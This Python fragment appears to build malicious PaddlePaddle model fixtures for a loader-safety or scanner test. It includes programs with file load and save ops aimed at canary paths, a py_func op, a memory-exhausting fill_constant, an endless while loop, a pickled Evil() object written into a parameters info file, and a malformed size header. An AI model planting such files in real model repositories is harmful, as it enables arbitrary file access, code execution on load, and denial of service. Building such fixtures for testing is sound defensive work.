    var = lambda block, name, shape=(1,): block.create_var(name=name, shape=shape, dtype="float32")
    program(
        "load",
        lambda b, x: b.append_op(type="load", outputs={"Out": var(b, "y")}, attrs={"file_path": CANARY + ".txt"}),
    )
    program(
        "load-combine",
        lambda b, x: b.append_op(
            type="load_combine",
            outputs={"Out": [var(b, "y")]},
            attrs={"file_path": CANARY + ".txt", "model_from_memory": False},
        ),
    )
    program(
        "save", lambda b, x: b.append_op(type="save", inputs={"X": x}, attrs={"file_path": MARK, "overwrite": True})
    )
    program(
        "save-combine",
        lambda b, x: b.append_op(type="save_combine", inputs={"X": [x]}, attrs={"file_path": MARK, "overwrite": True}),
    )
    program(
        "py-func",
        lambda b, x: b.append_op(
            type="py_func",
            inputs={"X": [x]},
            outputs={"Out": [var(b, "y")]},
            attrs={"forward_callable_id": 0, "backward_callable_id": -1, "backward_skip_vars": []},
        ),
    )
    program(
        "fill",
        lambda b, x: b.append_op(
            type="fill_constant",
            outputs={"Out": var(b, "y")},
            attrs={"shape": [1 << 20, 1 << 20], "value": 1.0, "dtype": 5},
        ),
    )

    def loop(b: object, x: object) -> None:
        true = b.create_var(name="c", shape=[1], dtype="bool")
        b.append_op(type="fill_constant", outputs={"Out": true}, attrs={"shape": [1], "value": 1.0, "dtype": 0})
        inner = b.program._create_block()
        b.program._rollback()
        scope = b.create_var(name="s", type=paddle.base.core.VarDesc.VarType.STEP_SCOPES)
        b.append_op(
            type="while",
            inputs={"X": [], "Condition": [true]},
            outputs={"Out": [], "StepScopes": [scope]},
            attrs={"sub_block": inner, "is_test": True},
        )

    program("loop", loop)
    for what in ("load", "save"):
        if Path(at(what, "m.pdmodel")).exists():
            shutil.copy(at(what, "m.pdmodel"), at(what + "-old-name", "__model__"))
    Path(at("parameters-info", "m.pdiparams.info")).write_bytes(pickle.dumps({"a": Evil()}))
    Path(at("parameters-size", "m.pdiparams")).write_bytes(
        struct.pack("<IQI", 0, 0, 0)
        + struct.pack("<i", 10)
        + bytes([8, 5, 16])
        + b"\xff\xff\xff\xff\xff\xff\x0f"
        + b"\0\0"
    )
